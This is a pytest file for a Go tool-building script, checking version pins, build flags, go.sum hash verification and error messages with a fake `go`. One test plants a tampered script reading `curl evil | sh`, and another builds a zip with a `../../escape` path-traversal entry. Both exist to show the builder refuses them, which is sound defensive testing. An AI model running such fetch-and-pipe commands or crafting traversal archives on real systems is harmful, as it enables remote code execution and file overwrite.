"""`make tools` (tools/build.py): the recipe that builds the real programs, checked offline.

Boundary: the go command. tests/fakes/go answers as go 1.26 does and links "programs" that print their
version the way the real ones do: from the -X version variables they were given, else upstream's unset
default (Kubernetes says v0.0.0-master). So a recipe that loses its ldflags, its wrapper or its pins fails
here, not only in CI where the real go builds the real programs (tests/real checks those).

Module zips (the scripts copied out of one, the module unpacked for generated files) come from the fake's
$FAKE_DIR/modzips; each test's copy of tools/ has go.sum lines for those zips, hashed as Go hashes them
(zip_h1, checked against a hash Go's own golang.org/x/mod/sumdb/dirhash computed).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tomllib
import zipfile
from pathlib import Path

import pytest

from tools.build import extract_module, go_sum_hash, parse_buildinfo, replaced_go_mod, zip_h1
from tools.manifest import key_fields, load_manifest

ROOT = Path(__file__).resolve().parents[2]
TOOLS = ROOT / "tools"
FAKE_GO = ROOT / "tests" / "fakes" / "go"
# As make runs it: a module, from the project folder (run_tools passes cwd=ROOT).
BUILD = [sys.executable, "-m", "tools.build"]
MANIFEST_TEXT = (TOOLS / "programs.toml").read_text()
MANIFEST = tomllib.loads(MANIFEST_TEXT)
WRAPPERS = [name for name in MANIFEST if name != "unavailable"]
# `make tools` builds the default group; `make lab-images` the Docker lab's (group = "lab-images").
PROGRAMS = {
    name: wrapper
    for wrapper in WRAPPERS
    if MANIFEST[wrapper].get("group", "tools") == "tools"
    for name in MANIFEST[wrapper].get("programs", {})
}
LAB_PROGRAMS = {
    name: wrapper
    for wrapper in WRAPPERS
    if MANIFEST[wrapper].get("group") == "lab-images"
    for name in MANIFEST[wrapper].get("programs", {})
}
FILES = {name: wrapper for wrapper in WRAPPERS for name in MANIFEST[wrapper].get("files", {})}
# What `make tools` puts in bin/: the programs it builds and the scripts it copies.
EVERYTHING = {**PROGRAMS, **FILES}
KUBERNETES_PROVIDER = "github.com/pulumi/pulumi-kubernetes/provider/v4"
SCRIPT_TEXT = "#!/bin/sh\n# stand-in for {path} of {module}\n"
# The stand-in of pulumi-kubernetes' provider module: what its generate.go reads, and no embed files.
PROVIDER_FILES = {
    "go.mod": f"module {KUBERNETES_PROVIDER}\n",
    "cmd/pulumi-resource-kubernetes/main.go": "package main\n",
    "cmd/pulumi-resource-kubernetes/generate.go": "//go:build ignore\n\npackage main\n",
    "cmd/pulumi-resource-kubernetes/schema.json": '{\n  "name": "kubernetes"\n}\n',
    "cmd/pulumi-resource-kubernetes/terraform-mapping.json": '{"x": 1}',
}


def write_module_zip(path: Path, module: str, version: str, files: dict[str, str]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            archive.writestr(f"{module}@{version}/{name}", text)


def set_go_sum_hash(go_sum: Path, module: str, version: str, h1: str) -> None:
    lines = [line for line in go_sum.read_text().splitlines() if line.split()[:2] != [module, version]]
    go_sum.write_text("\n".join([*lines, f"{module} {version} {h1}"]) + "\n")


def tools_without(tmp_path: Path, old: str, new: str = "") -> Path:
    """fake_tools with `old` in programs.toml replaced by `new`; a text no longer there fails the test, so an
    edit of the manifest cannot turn the test into one that checks nothing."""
    tools = fake_tools(tmp_path)
    manifest = tools / "programs.toml"
    text = manifest.read_text()
    assert old in text, f"tools/programs.toml no longer holds {old!r}"
    manifest.write_text(text.replace(old, new))
    return tools


def fake_tools(tmp_path: Path) -> Path:
    """A copy of tools/ whose go.sum pins the stand-in zips the fake go serves from $FAKE_DIR/modzips."""
    tools = tmp_path / "tools"
    if tools.exists():
        return tools
    shutil.copytree(TOOLS, tools, symlinks=True)  # tools/engine-plugins links to ./bin, absent in a fresh clone
    zips: dict[tuple[str, str, str], dict[str, str]] = {}
    for wrapper, table in MANIFEST.items():
        if wrapper == "unavailable":
            continue
        go_mod = (tools / wrapper / "go.mod").read_text()
        for entry in table.get("files", {}).values():
            version = required(go_mod, entry["module"])
            text = SCRIPT_TEXT.format(path=entry["path"], module=entry["module"])
            zips.setdefault((wrapper, entry["module"], version), {})[entry["path"]] = text
        if table.get("generate"):
            zips[(wrapper, table["source"], required(go_mod, table["source"]))] = dict(PROVIDER_FILES)
    for (wrapper, module, version), files in zips.items():
        target = tmp_path / "modzips" / f"{module}@{version}.zip".replace("/", "_")
        write_module_zip(target, module, version, files)
        set_go_sum_hash(tools / wrapper / "go.sum", module, version, zip_h1(target))
    return tools


def required(go_mod: str, module: str) -> str:
    match = re.search(rf"^\s*(?:require\s+)?{re.escape(module)}\s+(v\S+)", go_mod, re.MULTILINE)
    assert match, f"go.mod does not require {module}"
    return match[1]


def run_tools(tmp_path: Path, *args: str, tools: Path | None = None, go: bool = True, **env: str):
    tools = tools or fake_tools(tmp_path)
    path_dir = tmp_path / "path"
    path_dir.mkdir(exist_ok=True)
    if go and not (path_dir / "go").exists():
        (path_dir / "go").symlink_to(FAKE_GO)
    environ = {
        "PATH": f"{path_dir}:/usr/bin:/bin",
        "FAKE_DIR": str(tmp_path),
        "HOME": str(tmp_path),
        "GOFLAGS": "-buildvcs=false",
        "GPULAB_TOOLS_FROM": "build",  # no test downloads (tests/tools/test_releases.py serves its own files)
        **env,
    }
    return subprocess.run(
        [
            *BUILD,
            "--bin",
            str(tmp_path / "bin"),
            "--tools",
            str(tools),
            "--cache",
            str(tmp_path / "cache"),
            *args,
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env=environ,
        timeout=60,
    )


def go_calls(tmp_path: Path) -> list[dict[str, object]]:
    calls = []
    log = tmp_path / "go-calls"
    for line in log.read_text().splitlines() if log.exists() else []:
        match = re.fullmatch(r"cwd=(.*) cgo=(.*) goflags=(.*) args=(.*)", line)
        assert match, line
        calls.append({"cwd": Path(match[1]), "cgo": match[2], "goflags": match[3], "args": match[4].split("\x1f")[:-1]})
    return calls


def builds(tmp_path: Path) -> dict[str, dict[str, object]]:
    """The `go build` calls of programs for bin/, by the program they wrote (not of a generator)."""
    found = {}
    for call in go_calls(tmp_path):
        args = call["args"]
        if args and args[0] == "build" and args[args.index("-o") + 1].endswith(".partial"):
            found[Path(args[args.index("-o") + 1]).name.strip(".").removesuffix(".partial")] = call
    return found


def pinned(wrapper: str) -> str:
    return required((TOOLS / wrapper / "go.mod").read_text(), MANIFEST[wrapper]["source"])


def file_pin(name: str) -> str:
    wrapper = FILES[name]
    return required((TOOLS / wrapper / "go.mod").read_text(), MANIFEST[wrapper]["files"][name]["module"])


@pytest.fixture(scope="module")
def first_run(tmp_path_factory: pytest.TempPathFactory):
    tmp_path = tmp_path_factory.mktemp("tools")
    result = run_tools(tmp_path)
    return tmp_path, result


@pytest.mark.integration
def test_every_program_is_built_from_its_wrapper_with_upstreams_flags(first_run) -> None:
    tmp_path, result = first_run
    assert result.returncode == 0, result.stderr
    built = builds(tmp_path)
    assert set(built) == set(PROGRAMS)
    for name, call in built.items():
        wrapper = PROGRAMS[name]
        table = MANIFEST[wrapper]
        args = call["args"]
        assert call["cwd"] == tmp_path / "tools" / wrapper, name
        assert args[-1] == table["programs"][name]["package"], name
        assert "-trimpath" in args, name
        assert call["cgo"] == ("1" if table["cgo"] else "0"), name
        # go.sum must hold every checksum: a missing one fails the build instead of being fetched unverified.
        assert "-mod=readonly" in str(call["goflags"]).split(), name
        if table["tags"]:
            assert args[args.index("-tags") + 1] == ",".join(table["tags"]), name


@pytest.mark.integration
def test_the_lab_images_group_builds_its_own_programs_and_make_tools_none_of_them(first_run, tmp_path: Path) -> None:
    """make lab-images builds kind, kubeadm's etcd, CoreDNS, local-path-provisioner and MetalLB (tools/programs.toml
    group lab-images); make tools never does (a process-mode user waits for none of them)."""
    first_dir, _ = first_run
    assert not set(builds(first_dir)) & set(LAB_PROGRAMS)
    assert set(LAB_PROGRAMS) == {
        "kind", "kubeadm-etcd", "coredns", "local-path-provisioner", "metallb-controller", "metallb-speaker"
    }  # fmt: skip
    result = run_tools(tmp_path, "--group", "lab-images")
    assert result.returncode == 0, result.stderr
    assert set(builds(tmp_path)) == set(LAB_PROGRAMS)
    assert f"{len(LAB_PROGRAMS)} programs in" in result.stderr.splitlines()[-1]


@pytest.mark.integration
def test_each_program_reports_its_pinned_version(first_run) -> None:
    tmp_path, result = first_run
    assert result.returncode == 0, result.stderr
    kubernetes = pinned("kubernetes")
    major, minor = re.match(r"v(\d+)\.(\d+)", kubernetes).groups()
    ldflags = builds(tmp_path)["kube-apiserver"]["args"]
    ldflags = ldflags[ldflags.index("-ldflags") + 1]
    # kwokctl picks the API server's flags from `kube-apiserver --version`: the release's own variables.
    for variable, value in {"gitVersion": kubernetes, "gitMajor": major, "gitMinor": minor}.items():
        assert f"-X k8s.io/component-base/version.{variable}={value}" in ldflags
        assert f"-X k8s.io/client-go/pkg/version.{variable}={value}" in ldflags
    for name, wrapper in PROGRAMS.items():
        entry = MANIFEST[wrapper]["programs"][name]
        if entry.get("check") == "buildinfo":
            continue  # no version flag: test_programs_without_a_version_flag_are_checked_by_their_build_info
        shown = subprocess.run([tmp_path / "bin" / name, *entry["version_args"]], capture_output=True, text=True)
        assert pinned(wrapper).lstrip("v") in shown.stdout, (name, shown.stdout)


@pytest.mark.integration
def test_progress_is_one_line_per_program_start_and_end_then_a_summary(first_run) -> None:
    _, result = first_run
    lines = result.stderr.splitlines()
    for name, wrapper in PROGRAMS.items():
        release = f" (release {MANIFEST[wrapper]['release']})" if "release" in MANIFEST[wrapper] else ""
        assert f"[tools] {name} {pinned(wrapper)}{release}: building from tools/{wrapper}" in lines
        assert any(re.fullmatch(rf"\[tools\] {name} \S+: built in \d+ s", line) for line in lines), name
    for name, wrapper in FILES.items():
        assert (
            f"[tools] {name} {file_pin(name)}: copied, its zip's hash checked against tools/{wrapper}/go.sum" in lines
        )
    summary = lines[-1]
    count = len(EVERYTHING)
    assert re.search(rf"{count} programs in .*: {count} built, 0 up to date, in \d+ s", summary)
    assert "MB on disk" in summary and "GOMODCACHE" in summary and "go clean -modcache -cache" in summary
    # What this proxy cannot serve is said, one line each, not left for the user to discover.
    for name in MANIFEST["unavailable"]:
        assert sum(f"not built here: {name}:" in line for line in lines) == 1


@pytest.mark.integration
def test_a_second_run_builds_nothing(tmp_path: Path) -> None:
    assert run_tools(tmp_path).returncode == 0
    (tmp_path / "go-calls").unlink()
    again = run_tools(tmp_path)
    assert again.returncode == 0, again.stderr
    assert builds(tmp_path) == {}
    assert all(call["args"][:2] == ["env", "GOVERSION"] for call in go_calls(tmp_path))
    assert f"0 built, {len(EVERYTHING)} up to date" in again.stderr
    assert (tmp_path / "generator-runs").read_text().count("\n") == 1  # the first run's, none since


@pytest.mark.integration
def test_changing_one_pin_rebuilds_only_that_wrappers_programs(tmp_path: Path) -> None:
    tools = fake_tools(tmp_path)
    assert run_tools(tmp_path, tools=tools).returncode == 0
    (tmp_path / "go-calls").unlink()
    go_mod = tools / "kwok" / "go.mod"
    go_mod.write_text(go_mod.read_text().replace("sigs.k8s.io/kwok v0.8.0", "sigs.k8s.io/kwok v0.8.1"))
    again = run_tools(tmp_path, tools=tools)
    assert again.returncode == 0, again.stderr
    kwok_programs = {name for name, wrapper in PROGRAMS.items() if wrapper == "kwok"}
    assert set(builds(tmp_path)) == kwok_programs
    assert "kwokctl v0.8.1: building from tools/kwok" in again.stderr


@pytest.mark.integration
def test_without_go_one_line_says_what_is_missing(tmp_path: Path) -> None:
    result = run_tools(tmp_path, go=False)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1, result.stderr
    assert "`go` not found" in result.stderr and "Go 1.26" in result.stderr and "make test does not" in result.stderr


@pytest.mark.integration
def test_an_old_go_is_named_with_the_version_needed(tmp_path: Path) -> None:
    result = run_tools(tmp_path, FAKE_GO_VERSION="go1.24.4")
    assert result.returncode == 2
    needed = max(
        tuple(int(n) for n in re.search(r"^go (\S+)", (TOOLS / w / "go.mod").read_text(), re.M)[1].split("."))
        for w in WRAPPERS
    )
    assert f"go1.24.4 is older than go{'.'.join(map(str, needed))}" in result.stderr
    assert builds(tmp_path) == {}


@pytest.mark.integration
def test_without_the_module_proxy_one_line_says_so_before_any_build(tmp_path: Path) -> None:
    result = run_tools(tmp_path, FAKE_GO_PROXY_DOWN="1")
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1, result.stderr
    assert "could not download the modules of tools/" in result.stderr
    assert "no such host" in result.stderr and "needs the Go module proxy" in result.stderr
    assert builds(tmp_path) == {}


@pytest.mark.integration
def test_a_failed_build_names_the_package_and_leaves_no_partial_program(tmp_path: Path) -> None:
    package = MANIFEST["kwok"]["programs"]["kwokctl"]["package"]
    result = run_tools(tmp_path, "kwok", "kwokctl", FAKE_GO_BUILD_FAIL=package)
    assert result.returncode == 1
    assert f"go build {package} failed in tools/kwok" in result.stderr and "undefined: app.NewCommand" in result.stderr
    assert (tmp_path / "bin" / "kwok").exists()
    assert sorted(p.name for p in (tmp_path / "bin").iterdir()) == [".tools", "kwok"]


@pytest.mark.integration
def test_a_program_that_does_not_report_its_pin_is_refused(tmp_path: Path) -> None:
    """Without upstream's version variables the real kube-apiserver says v0.0.0-master, and kwokctl, which
    reads `kube-apiserver --version`, would choose the wrong flags: such a build must not land in bin/."""
    tools = tools_without(tmp_path, '"-X", "k8s.io/component-base/version.gitVersion={version}",')
    result = run_tools(tmp_path, "kube-apiserver", tools=tools)
    assert result.returncode == 1
    assert "printed 'Kubernetes v0.0.0-master+$Format:%H$', not 'Kubernetes v1.36.4'" in result.stderr
    assert not (tmp_path / "bin" / "kube-apiserver").exists()


@pytest.mark.integration
def test_an_unknown_program_name_lists_the_programs(tmp_path: Path) -> None:
    result = run_tools(tmp_path, "kube-router")
    assert result.returncode == 2
    assert "unknown program kube-router" in result.stderr and "kube-proxy" in result.stderr


def test_the_wrappers_pin_what_the_readme_promises() -> None:
    """The pins, read from the wrappers' go.mod files: the Kubernetes staging modules at the release's own
    v0.MINOR.PATCH, etcd's siblings at the server's release, Pulumi's sdk/v3 at the CLI's release."""
    kubernetes = pinned("kubernetes")
    staging = "v0" + kubernetes[2:]
    go_mod = (TOOLS / "kubernetes" / "go.mod").read_text()
    replaced = re.findall(r"^\s+(k8s\.io/\S+) => (k8s\.io/\S+) (v\S+)$", go_mod, re.MULTILINE)
    assert len(replaced) >= 30 and all(a == b and v == staging for a, b, v in replaced)
    etcd = pinned("etcd")
    etcd_mod = (TOOLS / "etcd" / "go.mod").read_text()
    assert set(re.findall(r"=> go\.etcd\.io/\S+ (v\S+)", etcd_mod)) == {etcd}
    pulumi_mod = (TOOLS / "pulumi" / "go.mod").read_text()
    assert re.search(rf"github.com/pulumi/pulumi/sdk/v3 {re.escape(pinned('pulumi'))}\b", pulumi_mod)
    for wrapper in WRAPPERS:
        go_sum = (TOOLS / wrapper / "go.sum").read_text()
        assert f"{MANIFEST[wrapper]['source']} {pinned(wrapper)} h1:" in go_sum, wrapper


@pytest.mark.integration
def test_make_tools_runs_the_builder() -> None:
    dry = subprocess.run(["make", "-n", "tools"], cwd=ROOT, capture_output=True, text=True, env=dict(os.environ))
    assert dry.returncode == 0 and "python3 -m tools.build" in dry.stdout


# The Python language host, its scripts and the Kubernetes provider: what the proxy serves of them needs two
# steps besides `go build` (tools/README.md): scripts copied out of a hash-checked module zip, and go:embed
# files that upstream generates before it builds.


def test_zip_h1_matches_a_hash_go_computed(tmp_path: Path) -> None:
    """The expected value is what Go's golang.org/x/mod/sumdb/dirhash.HashZip(zip, dirhash.Hash1) returned for
    this zip (Go 1.26.8, x/mod v0.32.0): the hash go.sum holds of every module zip."""
    archive = tmp_path / "m.zip"
    write_module_zip(
        archive, "example.com/m", "v1.0.0", {"go.mod": "module example.com/m\n", "scripts/run": "#!/bin/sh\necho hi\n"}
    )
    assert zip_h1(archive) == "h1:AO03WyAMehuEX4Te7SKfBvXWL7gSOxNA2mZrEF3rfAc="
    # The order files were written in does not matter, their names and bytes do.
    reordered = tmp_path / "r.zip"
    write_module_zip(
        reordered,
        "example.com/m",
        "v1.0.0",
        {"scripts/run": "#!/bin/sh\necho hi\n", "go.mod": "module example.com/m\n"},
    )
    assert zip_h1(reordered) == zip_h1(archive)
    changed = tmp_path / "c.zip"
    write_module_zip(
        changed, "example.com/m", "v1.0.0", {"go.mod": "module example.com/m\n", "scripts/run": "#!/bin/sh\necho HI\n"}
    )
    assert zip_h1(changed) != zip_h1(archive)


def test_go_sum_hash_is_the_zips_line_not_the_go_mod_line() -> None:
    go_sum = (
        "github.com/pulumi/pulumi/sdk/v3 v3.274.0 h1:zip=\n"
        "github.com/pulumi/pulumi/sdk/v3 v3.274.0/go.mod h1:mod=\n"
        "github.com/pulumi/pulumi/sdk/v3 v3.79.0 h1:old=\n"
    )
    assert go_sum_hash(go_sum, "github.com/pulumi/pulumi/sdk/v3", "v3.274.0") == "h1:zip="
    with pytest.raises(
        RuntimeError, match=re.escape("go.sum holds no hash of github.com/pulumi/pulumi/sdk/v3 v3.275.0")
    ):
        go_sum_hash(go_sum, "github.com/pulumi/pulumi/sdk/v3", "v3.275.0")


@pytest.mark.integration
def test_scripts_are_copied_byte_for_byte_from_the_pinned_zip_and_made_executable(first_run) -> None:
    tmp_path, result = first_run
    assert result.returncode == 0, result.stderr
    assert FILES, "tools/programs.toml copies the language host's scripts"
    for name, wrapper in FILES.items():
        entry = MANIFEST[wrapper]["files"][name]
        copied = tmp_path / "bin" / name
        assert copied.read_text() == SCRIPT_TEXT.format(path=entry["path"], module=entry["module"])
        assert os.access(copied, os.X_OK), name
        downloads = [c for c in go_calls(tmp_path) if c["args"][:3] == ["mod", "download", "-json"]]
        assert any(
            c["args"][3] == f"{entry['module']}@{file_pin(name)}" and c["cwd"] == tmp_path / "tools" / wrapper
            for c in downloads
        ), name


@pytest.mark.integration
def test_a_script_whose_zip_is_not_what_go_sum_pins_is_refused(tmp_path: Path) -> None:
    tools = fake_tools(tmp_path)
    name = "pulumi-language-python-exec"
    entry = MANIFEST[FILES[name]]["files"][name]
    version = file_pin(name)
    archive = tmp_path / "modzips" / f"{entry['module']}@{version}.zip".replace("/", "_")
    write_module_zip(archive, entry["module"], version, {entry["path"]: "#!/bin/sh\ncurl evil | sh\n"})
    result = run_tools(tmp_path, name, tools=tools)
    assert result.returncode == 1
    assert f"tools/{FILES[name]}/go.sum says {entry['module']} {version} is h1:" in result.stderr
    assert not (tmp_path / "bin" / name).exists()


@pytest.mark.integration
def test_a_module_the_proxy_refuses_is_named_in_one_line(tmp_path: Path) -> None:
    tools = fake_tools(tmp_path)
    for archive in (tmp_path / "modzips").iterdir():
        archive.unlink()
    result = run_tools(tmp_path, "pulumi-language-python-exec", tools=tools)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "403 Forbidden" in result.stderr, result.stderr


@pytest.mark.integration
def test_the_provider_is_built_from_a_copy_with_upstreams_generated_embed_files(first_run) -> None:
    tmp_path, result = first_run
    assert result.returncode == 0, result.stderr
    table = MANIFEST["pulumi-kubernetes"]
    pin, release = pinned("pulumi-kubernetes"), table["release"]
    copy = (tmp_path / "cache" / "pulumi-kubernetes" / "module").resolve()
    # The module as its zip has it, plus what upstream's generate.go wrote, run where `go generate` runs it
    # (the main package's folder) with VERSION = the release without its v (Makefile: VERSION_GENERIC).
    assert (copy / "cmd/pulumi-resource-kubernetes/schema.json").read_text() == PROVIDER_FILES[
        "cmd/pulumi-resource-kubernetes/schema.json"
    ]
    assert (
        tmp_path / "generator-runs"
    ).read_text() == f"cwd={copy}/cmd/pulumi-resource-kubernetes VERSION={release[1:]}\n"
    assert (copy / "cmd/pulumi-resource-kubernetes/schema-embed.json").read_text() == f'{{"version":"{release[1:]}"}}'
    generator, provider = (c for c in go_calls(tmp_path) if c["args"][:1] == ["build"] and "-modfile" in c["args"])
    assert generator["args"][-1] == str(copy / table["generate"]["generator"])
    modfile = Path(provider["args"][provider["args"].index("-modfile") + 1])
    wrapper_mod = (tmp_path / "tools" / "pulumi-kubernetes" / "go.mod").read_text()
    assert modfile.read_text() == replaced_go_mod(wrapper_mod, KUBERNETES_PROVIDER, copy)
    assert f"replace {KUBERNETES_PROVIDER} => {copy}\n" in modfile.read_text()
    assert (modfile.parent / "go.sum").read_text() == (tmp_path / "tools" / "pulumi-kubernetes" / "go.sum").read_text()
    # The wrapper stays as committed; the version variable is the release's, not the pseudo-version's.
    assert "=>" not in wrapper_mod.split(KUBERNETES_PROVIDER, 1)[1].split("\n", 1)[0]
    ldflags = provider["args"][provider["args"].index("-ldflags") + 1]
    assert f"-X {KUBERNETES_PROVIDER}/pkg/version.Version={release}" in ldflags and pin not in ldflags
    assert provider["cgo"] == "0"


@pytest.mark.integration
def test_without_the_generate_step_the_provider_does_not_build(tmp_path: Path) -> None:
    """Built from the module as the proxy serves it, go:embed finds no schema-embed.json (the fake fails as go
    does): why the manifest has a generate table."""
    table = re.search(r"^\[pulumi-kubernetes\.generate\]\n(?:[^\[\n].*\n)+", MANIFEST_TEXT, re.MULTILINE)
    assert table, "tools/programs.toml has a [pulumi-kubernetes.generate] table"
    tools = tools_without(tmp_path, table[0])
    result = run_tools(tmp_path, "pulumi-resource-kubernetes", tools=tools)
    assert result.returncode == 1, result.stderr
    assert "pattern schema-embed.json: no matching files found" in result.stderr
    assert not (tmp_path / "bin" / "pulumi-resource-kubernetes").exists()


@pytest.mark.integration
def test_a_generator_that_writes_nothing_is_named(tmp_path: Path) -> None:
    tools = tools_without(tmp_path, 'env = { VERSION = "{semver}" }', "env = {}")
    result = run_tools(tmp_path, "pulumi-resource-kubernetes", tools=tools)
    assert result.returncode == 1
    assert "upstream's generator cmd/pulumi-resource-kubernetes/generate.go did not write" in result.stderr
    assert "version not found" in result.stderr
    assert not (tmp_path / "bin" / "pulumi-resource-kubernetes").exists()


@pytest.mark.integration
def test_programs_without_a_version_flag_are_checked_by_their_build_info(first_run) -> None:
    tmp_path, result = first_run
    assert result.returncode == 0, result.stderr
    checked = [
        name for name, wrapper in PROGRAMS.items() if MANIFEST[wrapper]["programs"][name].get("check") == "buildinfo"
    ]
    assert sorted(checked) == ["pulumi-language-python", "pulumi-resource-kubernetes"]
    for name in checked:
        wrapper = PROGRAMS[name]
        shown = subprocess.run(
            [str(FAKE_GO), "version", "-m", str(tmp_path / "bin" / name)],
            capture_output=True,
            text=True,
            env=dict(os.environ, FAKE_DIR=str(tmp_path)),
        )
        modules, _ = parse_buildinfo(shown.stdout)
        assert modules[MANIFEST[wrapper]["source"]] == pinned(wrapper), name


@pytest.mark.integration
def test_a_build_of_another_version_than_the_pin_is_refused(tmp_path: Path) -> None:
    """A build whose build info names another sdk/v3 than the pin (here: the wrapper edited behind the
    manifest's back is what the fake links) must not land in bin/."""
    tools = fake_tools(tmp_path)
    go_mod = tools / "pulumi-language-python" / "go.mod"
    # The build key changes, the fake links v3.80.0, the pin read before the build is v3.79.0: refused.
    script = tmp_path / "path"
    script.mkdir()
    wrapped = script / "go"
    wrapped.write_text(
        "#!/bin/sh\n"
        f'if [ "$1" = build ]; then sed -i "s#sdk/v3 v3.79.0#sdk/v3 v3.80.0#" {go_mod}; fi\n'
        f'exec {FAKE_GO} "$@"\n'
    )
    wrapped.chmod(0o755)
    result = run_tools(tmp_path, "pulumi-language-python", tools=tools)
    assert result.returncode == 1, result.stderr
    assert "`go version -m` shows github.com/pulumi/pulumi/sdk/v3 v3.80.0, not the pin v3.79.0" in result.stderr
    assert not (tmp_path / "bin" / "pulumi-language-python").exists()


def test_parse_buildinfo_reads_what_go_version_m_prints() -> None:
    # The shape of `go version -m` (Go 1.26.8) for bin/pulumi-language-python, shortened.
    text = (
        "bin/pulumi-language-python: go1.26.8\n"
        "\tpath\tgithub.com/pulumi/pulumi/sdk/v3/python/cmd/pulumi-language-python\n"
        "\tmod\tgithub.com/pulumi/pulumi/sdk/v3\tv3.79.0\th1:GJ46WDwJ78jQ9qJW0nI1WdnypjCNkRQG9rVymw0go9A=\n"
        "\tdep\tgolang.org/x/text\tv0.9.0\n"
        "\t=>\tgolang.org/x/text\tv0.3.6\th1:aRYxNxv6iGQlyVaZmk6ZgYEDa+Jg18DxebPSrd6bg1M=\n"
        "\tbuild\t-buildmode=exe\n"
        "\tbuild\t-tags=osusergo,grpcnotrace\n"
        "\tbuild\t-trimpath=true\n"
        "\tbuild\tCGO_ENABLED=0\n"
    )
    modules, settings = parse_buildinfo(text)
    assert modules == {"github.com/pulumi/pulumi/sdk/v3": "v3.79.0", "golang.org/x/text": "v0.9.0"}
    assert settings["CGO_ENABLED"] == "0" and settings["-tags"] == "osusergo,grpcnotrace"
    assert parse_buildinfo('\tbuild\t-ldflags="-s -w -X a.b=c"\n')[1] == {"-ldflags": "-s -w -X a.b=c"}


def test_extract_module_strips_the_prefix_and_refuses_paths_outside(tmp_path: Path) -> None:
    archive = tmp_path / "m.zip"
    write_module_zip(archive, "example.com/m", "v1.0.0", {"a/b.json": "{}", "go.mod": "module example.com/m\n"})
    dest = tmp_path / "copy"
    (dest / "stale").mkdir(parents=True)
    extract_module(archive, "example.com/m", "v1.0.0", dest)
    assert sorted(str(p.relative_to(dest)) for p in dest.rglob("*") if p.is_file()) == ["a/b.json", "go.mod"]
    evil = tmp_path / "evil.zip"
    write_module_zip(evil, "example.com/m", "v1.0.0", {"../../escape": "x"})
    with pytest.raises(RuntimeError, match=re.escape("is not a file of example.com/m@v1.0.0")):
        extract_module(evil, "example.com/m", "v1.0.0", tmp_path / "copy2")
    assert not (tmp_path / "escape").exists()


def test_the_new_pins_are_what_the_readme_promises() -> None:
    """The language host from sdk/v3 v3.79.0 (the newest served release holding it), its scripts from the
    CLI's sdk/v3 release, the provider at v4.25.0's commit with sdk/v4 at v4.25.0 (provider/go.mod's
    replace of ../sdk), and each table's names in the manifest the builder loads."""
    assert pinned("pulumi-language-python") == "v3.79.0"
    assert {file_pin(name) for name in FILES} == {pinned("pulumi")}
    provider = pinned("pulumi-kubernetes")
    assert provider.endswith("-f47bc2d6f199") and MANIFEST["pulumi-kubernetes"]["release"] == "v4.25.0"
    go_mod = (TOOLS / "pulumi-kubernetes" / "go.mod").read_text()
    assert required(go_mod, "github.com/pulumi/pulumi-kubernetes/sdk/v4") == "v4.25.0"
    assert not re.search(r"^replace", go_mod, re.MULTILINE)  # the copy is named only in .cache's go.mod
    host_mod = (TOOLS / "pulumi-language-python" / "go.mod").read_text()
    assert "replace golang.org/x/text => golang.org/x/text v0.3.6" in host_mod  # sdk/go.mod's own, at v3.79.0
    items, unavailable = load_manifest(TOOLS / "programs.toml")
    assert {item.name for item in items} == set(EVERYTHING) | set(LAB_PROGRAMS)
    assert not {"pulumi-language-python", "pulumi-resource-kubernetes"} & set(unavailable)
    assert {"hami-scheduler", "pulumi-resource-command"} <= set(unavailable)


def test_a_program_that_uses_no_new_field_keeps_its_build_key() -> None:
    """The key of kube-apiserver is what it was before the manifest learnt release/check/contains/generate:
    the fields at their defaults are left out, so adding a field to the schema rebuilds nothing."""
    items, _ = load_manifest(TOOLS / "programs.toml")
    apiserver = next(item for item in items if item.name == "kube-apiserver")
    before = {
        "name", "wrapper", "package", "version_args", "expect", "cgo", "tags", "ldflags", "source",
    }  # fmt: skip
    assert set(key_fields(apiserver)) == before
    provider = next(item for item in items if item.name == "pulumi-resource-kubernetes")
    assert {"release", "check", "contains", "generate"} <= set(key_fields(provider))
